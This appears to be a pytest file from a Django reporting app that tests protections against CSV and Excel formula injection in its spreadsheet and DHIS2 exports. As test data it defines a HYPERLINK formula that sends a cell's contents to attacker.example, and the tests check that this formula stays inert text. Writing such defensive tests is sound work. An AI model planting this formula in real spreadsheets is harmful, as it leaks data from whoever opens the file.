"""Spreadsheet exports keep people's text as text (issue 20, finding 4; OWASP CSV injection).

A comment '=HYPERLINK(…)' typed by a commune must not become a live formula in the approver's
Excel download nor in the DHIS2 CSV export; the words stay readable and numbers stay numbers.
"""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from giaoban.api.models import ApiToken
from giaoban.collection.excel import FIRST_ROW
from giaoban.collection.models import DataValue
from giaoban.core.cells import csv_field, needs_quote
from giaoban.dhis2.format import write_csv

from .tree import PERIOD, build_tree

LINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm để xem")'


@pytest.fixture
def tree(db):
    t = build_tree()
    # The commune's comment on its figure, in its draft (as any entry would write it).
    DataValue.objects.filter(report=t.reports["mttq_a2"], indicator=t.indicators[0]).update(comment=LINK)
    DataValue.objects.filter(report=t.reports["mttq_a2"], indicator=t.indicators[1]).update(comment="+84 912 345 678")
    return t


def test_the_approvers_excel_download_keeps_a_formula_like_comment_as_text(tree, client):
    client.force_login(tree.users["approve_p"])
    unit = tree.units["mttq_a2"]
    r = client.get(reverse("collection:excel_download", args=[unit.pk, PERIOD]))
    assert r.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(r.content))["Biểu mẫu"]
    comments = {ws.cell(row, 1).value: ws.cell(row, 6) for row in range(FIRST_ROW, ws.max_row + 1)}
    link = comments["tuyen_truyen_buoi"]
    assert link.value == LINK and link.data_type == "s"  # readable, and not a formula
    assert comments["tuyen_truyen_luot_nguoi"].value == "+84 912 345 678"
    values = {ws.cell(row, 1).value: ws.cell(row, 4) for row in range(FIRST_ROW, ws.max_row + 1)}
    assert values["tuyen_truyen_buoi"].value == 20 and values["tuyen_truyen_buoi"].data_type == "n"


def test_the_dhis2_csv_export_neutralizes_formula_like_text(tree, client):
    token = ApiToken.issue(tree.users["admin"], "t")[1]
    r = client.get("/api/dataValueSets.csv", {"period": PERIOD}, HTTP_AUTHORIZATION=f"Bearer {token}")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.content.decode())))
    by_comment = {row["comment"] for row in rows}
    assert "'" + LINK in by_comment and LINK not in by_comment
    assert "'+84 912 345 678" in by_comment
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row.values())
    assert {row["value"] for row in rows} >= {"20", "21"}  # numbers stay numbers


def test_numbers_stay_numbers_and_every_risky_start_is_quoted():
    out = io.StringIO()
    write_csv([{"dataElement": "a", "period": "2024Q1", "orgUnit": "u", "value": "-3", "comment": "@SUM(A1:A9)",
                "storedBy": "-x"}], out)
    row = list(csv.DictReader(io.StringIO(out.getvalue())))[0]
    assert row["value"] == "-3" and row["comment"] == "'@SUM(A1:A9)" and row["storedBy"] == "'-x"
    for text in ["=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1", "-", "+"]:
        assert needs_quote(text) and csv_field(text) == "'" + text
    for text in ["-3", "+1.5", "-0,5", "12", "1e5", "Bình thường", "", "x=1"]:
        assert csv_field(text) == text
    assert csv_field(Decimal("-3")) == Decimal("-3")


def test_the_pivot_exports_keep_formula_like_labels_as_text():
    from giaoban.analytics.pivot import PivotTable, to_csv, to_xlsx

    class Table(PivotTable):
        def matrix(self):
            return [["Địa bàn", "MTTQ"], ["=HYPERLINK(\"http://x\")", Decimal("-3")], ["+Xã Mới", Decimal("12.5")]]

    table = Table.__new__(Table)
    table.title = "Tổng hợp"
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    assert rows[1] == ["'=HYPERLINK(\"http://x\")", "-3"] and rows[2] == ["'+Xã Mới", "12.5"]
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx(table))).active
    assert ws["A3"].value == '=HYPERLINK("http://x")' and ws["A3"].data_type == "s"
    assert ws["B3"].value == -3 and ws["B3"].data_type == "n"
